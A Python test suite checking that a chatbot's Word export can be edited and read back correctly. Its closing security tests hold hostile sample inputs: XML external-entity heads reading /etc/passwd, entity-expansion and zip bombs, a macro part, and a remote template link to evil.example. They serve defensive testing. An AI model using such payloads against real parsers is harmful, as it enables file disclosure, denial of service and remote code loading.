"""The round trip: exported, edited in every way that people edit, read back; each edit lands on the right answer."""

from __future__ import annotations

import subprocess
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from bot.conversation import opened
from bot.files.read_back import LARGEST_FILE, MOST_READ, NotReadBack, read_back
from bot.files.word import draw
from bot.house import House
from dialogs.case import Case
from dialogs.document import Wish, draw_up
from dialogs.document.matching import Matched, Proposal, match
from dialogs.growth import grown
from dialogs.message import Brought, Dropped, Identity, Message, Place
from dialogs.turn import Answered
from tests.dialogs.test_conversation import Talk
from tests.files.cases import AT, BINS, PROFILE, TODAY, bins, case, draft, empty, large, library
from tests.files.editor import Editor, W, packed
from tests.houses import a_house

WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


def exported(of: Case, **wish: Any) -> bytes:
    return draw(draw_up(of, library(), PROFILE, TODAY, Wish(**wish)))


def back(content: bytes, of: Case) -> Matched:
    return match(read_back(content), of, library())


def edited(of: Case, *edits: Any, **wish: Any) -> Matched:
    editor = Editor(exported(of, **wish))
    for edit in edits:
        edit(editor)
    return back(editor.saved(), of)


def only(found: Matched) -> Proposal:
    assert found.strays == ()
    (proposal,) = found.proposals
    return proposal


def key_of(of: Case, step: str, place: int = 0) -> str:
    return of.live_rows(step)[place].key


@pytest.mark.parametrize("view", ["case", "page"])
@pytest.mark.parametrize("of", [bins, draft, empty, large])
def test_a_file_that_nobody_touched_asks_for_nothing(of: Any, view: str) -> None:
    found = back(exported(of(), view=view), of())

    assert found == Matched(known=True)


# Ten kinds of edit, and some more


def test_other_words_in_an_answer() -> None:
    found = edited(bins(), lambda e: e.write(e.control("people_affected"), "Gain: everybody on our rounds."))

    assert only(found) == Proposal("answer", "people_affected", new="Gain: everybody on our rounds.", who="Meera Patel")


def test_words_written_behind_the_control() -> None:
    found = edited(bins(), lambda e: e.write_after(e.control("people_affected"), " And crews."))

    assert only(found).new == f"{BINS['people_affected']} And crews."


def test_a_new_paragraph_after_an_answer_belongs_to_it() -> None:
    found = edited(bins(), lambda e: e.add_paragraph(e.control("people_affected"), "Schools, too."))

    assert only(found).step == "people_affected"
    assert only(found).new == f"{BINS['people_affected']}\nSchools, too."


def test_a_tracked_insertion_comes_with_its_author() -> None:
    found = edited(bins(), lambda e: e.insert(e.control("how_we_get_it"), " Legal agrees.", "Tom Reed"))

    assert only(found) == Proposal(
        "answer", "how_we_get_it", new=f"{BINS['how_we_get_it']} Legal agrees.", who="Tom Reed"
    )


def test_a_tracked_deletion_is_taken_as_made() -> None:
    found = edited(bins(), lambda e: e.strike(e.control("how_we_get_it"), " The export is a plain CSV,", "Tom Reed"))

    assert only(found).new == BINS["how_we_get_it"].replace(" The export is a plain CSV,", "")
    assert only(found).who == "Tom Reed"


def test_tracked_changes_by_two_people_in_one_answer() -> None:
    found = edited(
        bins(),
        lambda e: e.insert(e.control("how_we_get_it"), " One.", "Tom Reed"),
        lambda e: e.insert(e.control("how_we_get_it"), " Two.", "Priya Shah"),
    )

    assert only(found).who == "Tom Reed, Priya Shah"
    assert only(found).new.endswith(" One. Two.")


def test_a_cell_of_a_row() -> None:
    row = key_of(bins(), "objectives", 1)
    found = edited(bins(), lambda e: e.write(e.control(row, "target"), "120 a month"))

    assert only(found) == Proposal(
        "row", "objectives", row, "Return visits by crews", {"target": "120 a month"}, "Meera Patel"
    )


def test_a_cell_that_was_empty() -> None:
    row = key_of(bins(), "risks", 1)
    found = edited(bins(), lambda e: e.write(e.control(row, "owner"), "Tom Reed"))

    assert only(found).fields == {"owner": "Tom Reed"}


def test_a_cell_that_shares_its_column_with_another() -> None:
    row = key_of(bins(), "benefits")
    found = edited(bins(), lambda e: e.write(e.control(row, "holder"), "Ana Silva"))

    assert only(found).fields == {"holder": "Ana Silva"}


def test_a_tracked_change_in_a_cell() -> None:
    row = key_of(bins(), "data", 1)
    found = edited(bins(), lambda e: e.insert(e.control(row, "holder"), " and post room", "Tom Reed"))

    assert only(found).fields == {"holder": "Street naming team and post room"}
    assert only(found).who == "Tom Reed"


def test_a_new_row() -> None:
    row = key_of(bins(), "risks")
    found = edited(
        bins(), lambda e: e.add_row(e.control(row, "name"), "The feed stops", "Likely", "Small", "Tom Reed", "Ring")
    )

    assert only(found) == Proposal(
        "new_row",
        "risks",
        fields={
            "name": "The feed stops",
            "likelihood": "Likely",
            "impact": "Small",
            "owner": "Tom Reed",
            "response": "Ring",
        },
        who="Meera Patel",
    )


def test_a_row_that_was_copied_is_a_new_one() -> None:
    row = key_of(bins(), "risks", 1)
    found = edited(bins(), lambda e: e.copy_row(e.control(row, "name"), name="The second officer leaves"))

    assert only(found).kind == "new_row"
    assert only(found).fields["name"] == "The second officer leaves"


def test_a_row_that_was_taken_out() -> None:
    row = key_of(bins(), "options", 3)
    found = edited(bins(), lambda e: e.remove_row(e.control(row, "name")))

    assert only(found) == Proposal("row_gone", "options", row, "A new app", who="Meera Patel")


def test_a_row_that_was_struck_out() -> None:
    row = key_of(bins(), "options", 3)
    found = edited(bins(), lambda e: e.strike_row(e.control(row, "name"), "Tom Reed"))

    assert only(found).kind == "row_gone"
    assert only(found).row == row


def test_a_whole_table_that_was_taken_out_takes_no_rows_out() -> None:
    def cut(e: Editor) -> None:
        table = e.row(e.control(key_of(bins(), "options"), "name")).getparent()
        table.getparent().remove(table)

    assert edited(bins(), cut) == Matched(known=True)


def test_an_answer_that_was_taken_out_stays_in_the_case() -> None:
    def cut(e: Editor) -> None:
        paragraph = e.paragraph(e.control("how_we_get_it"))
        paragraph.getparent().remove(paragraph)

    assert edited(bins(), cut) == Matched(known=True)


def test_a_comment_on_an_answer() -> None:
    found = edited(bins(), lambda e: e.comment(e.control("problem"), "How often is this?", "Ana Silva"))

    assert only(found) == Proposal("comment", "problem", new="How often is this?", who="Ana Silva")


def test_a_comment_in_a_table() -> None:
    row = key_of(bins(), "costs", 2)
    found = edited(bins(), lambda e: e.comment(e.control(row, "amount"), "With on-costs?", "Ana Silva"))

    assert only(found) == Proposal("comment", "costs", new="With on-costs?", who="Ana Silva")


def test_what_finance_writes_into_its_room() -> None:
    found = edited(
        bins(),
        lambda e: e.write(e.control("finance0"), "Payback looks sound."),
        lambda e: e.write(e.control("finance1"), "Lena Ford, 2 December 2026"),
    )

    assert only(found) == Proposal(
        "comment", new="Payback looks sound.", who="Comments from finance, Lena Ford, 2 December 2026"
    )


def test_a_choice() -> None:
    found = edited(bins(), lambda e: e.write(e.control("kind"), "Quicker or cheaper to run"))

    assert only(found) == Proposal("answer", "kind", new="Quicker or cheaper to run", who="Meera Patel")


def test_the_beginning_of_an_answer_that_was_shortened() -> None:
    whole = large().history["problem"][0].said
    found = edited(
        large(), lambda e: e.write(e.control("problem", kind="start"), "On Mondays the contact centre logs.")
    )

    assert only(found).step == "problem"
    assert only(found).new.startswith("On Mondays the contact centre logs. The contact centre logs each call")
    assert whole.strip().endswith(only(found).new[-500:].strip())


def test_beginning_and_full_text_changed_at_once() -> None:
    whole = large().history["problem"][0].said.strip()
    found = edited(
        large(),
        lambda e: e.write(e.control("problem", kind="start"), "A new start."),
        lambda e: e.write(e.control("problem", kind="answer"), f"{whole} A new end."),
    )

    assert only(found).new.startswith("A new start.")
    assert only(found).new.endswith("A new end.")


def test_a_row_told_in_one_line_is_shown_and_kept() -> None:
    row = key_of(bins(), "risks")
    found = edited(bins(), lambda e: e.write(e.control(row, kind="line"), "Nothing can go wrong."))

    assert found.proposals == ()
    assert [(stray.text, stray.near) for stray in found.strays] == [
        ("Nothing can go wrong.", "Wrong dates shown after a round changes")
    ]


def test_words_in_an_odd_place_are_shown_and_kept() -> None:
    def add(e: Editor) -> None:
        head = next(p for p in e.root.iter(f"{W}p") if "".join(p.itertext()) == "Who has agreed")
        e.add_paragraph(head, "The unions have agreed.")

    found = edited(bins(), add)
    assert [(stray.text, stray.near) for stray in found.strays] == [("The unions have agreed.", "Who has agreed")]


def test_many_edits_at_once_each_land_on_their_own_answer() -> None:
    of = bins()
    found = edited(
        of,
        lambda e: e.write(e.control("problem"), "One."),
        lambda e: e.insert(e.control("today"), " Two.", "Tom Reed"),
        lambda e: e.write(e.control(key_of(of, "data"), "licence"), "Three"),
        lambda e: e.remove_row(e.control(key_of(of, "delivery", 1), "name")),
        lambda e: e.comment(e.control("ask"), "Four?", "Ana Silva"),
    )

    assert {(one.kind, one.step) for one in found.proposals} == {
        ("answer", "problem"),
        ("answer", "today"),
        ("row", "data"),
        ("row_gone", "delivery"),
        ("comment", "ask"),
    }


# After the case has moved on, and after other programs


def test_an_old_file_asks_for_nothing_when_the_case_has_moved_on() -> None:
    of = bins()
    file = exported(of)
    later = grown(of, Answered(of.id, "problem", 1, "given", "New words.", "New words.", 1), "p1", AT)

    assert back(file, later) == Matched(known=True)


def test_an_edit_in_an_old_file_is_shown_beside_the_new_answer() -> None:
    of = bins()
    editor = Editor(exported(of))
    editor.write(editor.control("today"), "Theirs.")
    later = grown(of, Answered(of.id, "today", 1, "given", "Mine.", "Mine.", 1), "p1", AT)

    assert only(back(editor.saved(), later)) == Proposal("answer", "today", new="Theirs.", who="Meera Patel")


def test_without_controls_answers_are_found_by_their_labels() -> None:
    found = edited(bins(), lambda e: e.unwrap(), lambda e: e.replace("the printed calendar stops", "print stops"))

    assert [(one.kind, one.step) for one in found.proposals] == [("answer", "people_affected")]
    assert "if print stops" in found.proposals[0].new


def test_without_controls_rows_are_found_by_their_names() -> None:
    found = edited(bins(), lambda e: e.unwrap(), lambda e: e.replace("2,800 a month", "2,500 a month"))

    rows = [one for one in found.proposals if one.kind == "row"]
    assert [(one.step, one.fields) for one in rows] == [("objectives", {"target": "2,500 a month"})]


def test_without_controls_an_untouched_file_asks_for_nothing() -> None:
    found = edited(bins(), lambda e: e.unwrap())

    assert found.proposals == ()


def test_quotation_marks_that_word_has_turned_are_no_change() -> None:
    of = case({"problem": 'It\'s "late", they said.'})
    found = edited(of, lambda e: e.write(e.control("problem"), "It’s “late”, they said."))

    assert found == Matched(known=True)


@pytest.mark.office
def test_libreoffice_keeps_what_we_need(tmp_path: Path) -> None:
    of = bins()
    editor = Editor(exported(of))
    editor.write(editor.control("today"), "Changed here.")
    editor.comment(editor.control("ask"), "Why?", "Ana Silva")
    (tmp_path / "case.docx").write_bytes(editor.saved())
    (tmp_path / "out").mkdir()
    home = f"-env:UserInstallation=file://{tmp_path / 'home'}"
    to = ["--convert-to", "docx", "--outdir", str(tmp_path / "out"), str(tmp_path / "case.docx")]
    subprocess.run(["soffice", home, "--headless", *to], capture_output=True, timeout=90, check=True)

    found = back((tmp_path / "out" / "case.docx").read_bytes(), of)
    assert {(one.kind, one.step, one.new) for one in found.proposals} == {
        ("answer", "today", "Changed here."),
        ("comment", "ask", "Why?"),
    }


# Whatever is edited, whatever stands in it

_TEXTS = [step.key for theme in library().themes.values() for step in theme.steps if step.kind == "text"]
_WORDS = st.text(st.characters(codec="utf-8", exclude_categories=["Cs", "Cc", "Zl", "Zp"]), min_size=3, max_size=300)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    said=st.dictionaries(st.sampled_from([key for key in _TEXTS if key not in ("decider", "objections")]), _WORDS),
    edits=st.lists(st.tuples(st.integers(0, 20), st.text("abcdefghij ", min_size=4, max_size=60)), max_size=4),
)
def test_every_edit_lands_on_the_answer_that_it_was_made_in(said: dict[str, str], edits: list[tuple[int, str]]) -> None:
    of = case({key: words for key, words in said.items() if words.strip()}, BINS_ROWS_FEW)
    editor = Editor(exported(of))
    answers = [(control, anchor.key) for control, anchor in editor.controls() if anchor.kind == "answer"]
    wanted: dict[str, str] = {}
    for place, words in edits:
        if answers and words.strip():
            control, key = answers[place % len(answers)]
            if len([one for one in answers if one[1] == key]) == 1:
                editor.write(control, words)
                wanted[key] = " ".join(words.split())
    found = back(editor.saved(), of)

    changed = {one.step: " ".join(one.new.split()) for one in found.proposals}
    same = {key for key, words in wanted.items() if words == " ".join(said[key].split())}
    assert changed == {key: words for key, words in wanted.items() if key not in same}


BINS_ROWS_FEW = {"risks": [{"name": "Wrong dates", "impact": "high"}]}


# Files that are not what they should be


def trouble(content: bytes) -> str:
    with pytest.raises(NotReadBack) as caught:
        read_back(content)
    return caught.value.why


def parts() -> dict[str, bytes]:
    return dict(Editor(exported(draft())).parts)


def test_each_kind_of_bad_file_has_a_sentence_of_its_own() -> None:
    ole = bytes.fromhex("d0cf11e0a1b11ae1")
    assert trouble(b"") == "empty"
    assert trouble(b"x" * (LARGEST_FILE + 1)) == "large"
    assert trouble(b"just words") == "not_word"
    assert trouble(ole + b"\0" * 600) == "old_format"
    assert trouble(ole + b"\0" * 100 + "EncryptedPackage".encode("utf-16-le")) == "password"
    assert trouble(exported(draft())[:2000]) == "damaged"
    assert trouble(packed({**parts(), "word/document.xml": b"<w:document"})) == "damaged"
    assert trouble(packed({"mimetype": b"application/vnd.oasis.opendocument.text"})) == "not_word"
    assert trouble(packed({**parts(), "word/vbaProject.bin": b"macro"})) == "macros"
    assert trouble(packed({**parts(), "word/document.xml": b"<html/>"})) == "not_word"


def test_a_bomb_is_not_opened() -> None:
    assert trouble(packed({**parts(), "word/document.xml": b" " * (MOST_READ + 1)})) == "bomb"
    assert trouble(packed({**parts(), **{f"x{n}": b"" for n in range(3001)}})) == "bomb"
    body = b"<w:p/>" * 20_001
    document = parts()["word/document.xml"].replace(b"<w:body>", b"<w:body>" + body)
    assert trouble(packed({**parts(), "word/document.xml": document})) == "bomb"


def test_a_header_that_lies_about_its_length_is_not_believed() -> None:
    content = bytearray(packed({"word/document.xml": b"0" * (MOST_READ + 1000)}))
    for mark, offset in ((b"PK\x03\x04", 22), (b"PK\x01\x02", 24)):
        place = content.index(mark) + offset
        content[place : place + 4] = (100).to_bytes(4, "little")

    assert trouble(bytes(content)) in ("bomb", "damaged")


@pytest.mark.parametrize(
    "head",
    [
        b'<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]>',
        b'<!DOCTYPE x SYSTEM "file:///etc/passwd">',
        b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    ],
)
def test_no_entity_is_ever_read(head: bytes) -> None:
    document = parts()["word/document.xml"]
    start = document.index(b"<w:document")

    assert trouble(packed({**parts(), "word/document.xml": document[:start] + head + document[start:]})) == "damaged"


def test_a_deep_nest_is_refused() -> None:
    deep = b"<w:sdt><w:sdtContent>" * 5_000 + b"</w:sdtContent></w:sdt>" * 5_000
    document = parts()["word/document.xml"].replace(b"<w:body>", b"<w:body>" + deep)

    assert trouble(packed({**parts(), "word/document.xml": document})) == "damaged"


def test_a_file_that_would_fetch_something_is_read_and_nothing_is_fetched() -> None:
    found = parts()
    told = found["word/_rels/document.xml.rels"]
    kind = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"
    target = b'Target="http://evil.example/t.dotm" TargetMode="External"'
    link = b'<Relationship Id="x" Type="' + kind + b'" ' + target + b"/></Relationships>"
    found["word/_rels/document.xml.rels"] = told.replace(b"</Relationships>", link)

    assert read_back(packed(found)).notes == ("fetches",)
    assert read_back(packed(parts())).notes == ()


@settings(max_examples=60, deadline=None)
@given(data=st.data())
def test_a_damaged_file_never_does_worse_than_a_sentence(data: st.DataObject) -> None:
    content = bytearray(SMALL)
    for _ in range(data.draw(st.integers(1, 8))):
        content[data.draw(st.integers(0, len(content) - 1))] = data.draw(st.integers(0, 255))
    read = opened(Message("1", NOBODY, Place("terminal", "x"), Dropped("x.docx", WORD, bytes(content)), AT)).what

    assert isinstance(read, Brought)
    assert read.returned is not None or f"back.trouble.{read.trouble}" in library().phrases
    if read.returned is not None:
        match(read.returned, draft(), library())


SMALL = exported(draft(), view="page")
NOBODY = Identity("terminal", "local", "nobody")


# In the conversation


@pytest.fixture
def house(tmp_path: Path) -> Iterator[House]:
    with a_house(tmp_path) as house:
        yield house


@pytest.fixture
def talk(house: House) -> Talk:
    talk = Talk(house).start()
    for key in ("goal", "kind", "problem", "today"):
        talk.say(BINS[key])
    talk.fill(f"row/{talk.case.id}/data/new", name="Bin rounds", holder="The contractor")
    return talk


def editor(talk: Talk, house: House) -> Editor:
    talk.say("export as word")
    talk.press("Public")
    (file,) = [reply.file for reply in talk.replies if reply.file]
    with house.memory.unit(reading=True) as unit:
        kept = unit.file(file.key, house.clock.now())
    assert kept is not None
    return Editor(kept.content)


def drop(talk: Talk, content: bytes, name: str = "Missed bins.docx") -> list[str]:
    return talk._do(Dropped(name, WORD, content))


def test_changes_are_shown_one_by_one_and_taken_or_left(talk: Talk, house: House) -> None:
    e = editor(talk, house)
    e.insert(e.control("today"), " Every year.", "Tom Reed")
    e.write(e.control("goal"), "Fewer calls.")
    e.comment(e.control("today"), "Who counted?", "Ana Silva")

    heard = drop(talk, e.saved())
    assert heard[0] == "back.found"
    assert "proposal:answer:goal" in heard
    assert "Fewer calls." in talk.words
    assert "proposal:answer:today" in talk.press("Keep mine")
    assert "Tom Reed" in talk.words
    assert "proposal:comment:today" in talk.press("Accept")
    assert "back.done" in talk.press("Note as an action")

    case = talk.case
    assert case.history["goal"][-1].said == BINS["goal"]
    assert case.history["today"][-1].said.endswith("Every year.")
    assert [action.text for action in case.actions if action.owner == "Ana Silva"] == [
        "Ana Silva comments: Who counted?"
    ]


def test_everything_can_be_taken_at_once_and_undone(talk: Talk, house: House) -> None:
    row = talk.case.live_rows("data")[0].key
    e = editor(talk, house)
    e.write(e.control("today"), "Other words.")
    drop(talk, e.saved())
    talk.press("Accept all that is left")

    assert talk.case.history["today"][-1].said == "Other words."
    assert talk.case.live_rows("data")[0].key == row
    talk.say("undo")
    assert talk.case.history["today"][-1].said == BINS["today"]


def test_rows_change_come_and_go(talk: Talk, house: House) -> None:
    talk.fill(f"row/{talk.case.id}/data/new", name="Address gazetteer", holder="Street naming")
    talk.send(f"export/{talk.case.id}/word/public/case")
    (file,) = [reply.file for reply in talk.replies if reply.file]
    with house.memory.unit(reading=True) as unit:
        kept = unit.file(file.key, house.clock.now())
    assert kept is not None
    first, second = (row.key for row in talk.case.live_rows("data"))
    e = Editor(kept.content)
    e.write(e.control(first, "openness"), "Open")
    e.add_row(e.control(second, "name"), "Crew sickness", "HR")
    e.remove_row(e.control(second, "name"))
    drop(talk, e.saved())
    talk.press("Accept all that is left")

    rows = [(row.fields.get("name"), row.fields.get("openness")) for row in talk.case.live_rows("data")]
    assert rows == [("Bin rounds", "open"), ("Crew sickness", None)]


def test_a_choice_that_is_none_is_kept_as_an_action(talk: Talk, house: House) -> None:
    e = editor(talk, house)
    e.write(e.control("kind"), "Something quite different")
    drop(talk, e.saved())

    assert "back.misfit" in talk.press("Accept")
    assert any("Something quite different" in action.text for action in talk.case.actions)
    assert talk.case.history["kind"][-1].value == "access"


def test_what_cannot_be_placed_is_shown_and_kept(talk: Talk, house: House) -> None:
    e = editor(talk, house)
    head = next(p for p in e.root.iter(f"{W}p") if "".join(p.itertext()) == "Missed bins")
    e.add_paragraph(head, "Shown to the unions on Tuesday.")

    assert "back.strays" in drop(talk, e.saved())
    assert "Shown to the unions" in talk.words
    assert any("Shown to the unions" in action.text for action in talk.case.actions)


def test_a_file_without_changes_says_so_and_the_question_follows(talk: Talk, house: House) -> None:
    heard = drop(talk, editor(talk, house).saved())

    assert heard[0] == "back.nothing"
    assert heard[-1].startswith("step:")


def test_an_old_button_does_nothing_by_itself(talk: Talk, house: House) -> None:
    e = editor(talk, house)
    e.write(e.control("goal"), "One.")
    e.write(e.control("problem"), "Two.")
    drop(talk, e.saved())
    old = talk.button("Accept")
    talk.press("Keep mine")

    assert "press.stale" in talk.send(old)
    assert talk.case.history["goal"][-1].said == BINS["goal"]
    assert talk.case.history["problem"][-1].said == BINS["problem"]
    assert "back.stopped" in talk.press("Stop here")
    assert "back.done" in talk.send(old)


def test_the_file_of_another_case_is_not_read_into_this_one(talk: Talk, house: House) -> None:
    other = Talk(house, "stranger").start()

    assert "back.other_case" in drop(other, editor(talk, house).saved())
    assert "goal" not in other.case.history


def test_a_file_opens_the_case_that_it_belongs_to(talk: Talk, house: House) -> None:
    e = editor(talk, house)
    first = talk.case.id
    e.write(e.control("goal"), "Fewer calls.")
    talk.say("start a new business case about potholes")
    drop(talk, e.saved())
    talk.press("Accept")

    assert talk.case.id == first
    assert talk.case.history["goal"][-1].said == "Fewer calls."


@pytest.mark.parametrize("content", [b"", b"x", exported(draft())[:900]])
def test_a_file_that_cannot_be_read_gets_a_sentence_and_the_question_again(talk: Talk, content: bytes) -> None:
    heard = drop(talk, content)

    assert heard[0].startswith("back.trouble.")
    assert heard[-1] == "step:data"
    assert "Missed bins.docx" in talk.words


def test_somebody_elses_document_is_not_ours(talk: Talk) -> None:
    e = Editor(exported(draft()))
    e.unwrap()
    body = e.root.find(f"{W}body")
    for block in list(body)[:-1]:
        body.remove(block)
    body.insert(0, Editor(exported(draft())).root.find(f"{W}body")[0])
    e.parts["docProps/core.xml"] = e.parts["docProps/core.xml"].replace(b"00a1b2c3d4e5f601", b"")

    assert drop(talk, e.saved())[0] == "back.trouble.not_ours"


def test_without_a_case_the_file_has_nowhere_to_go(house: House) -> None:
    assert "back.other_case" in drop(Talk(house), exported(draft()))
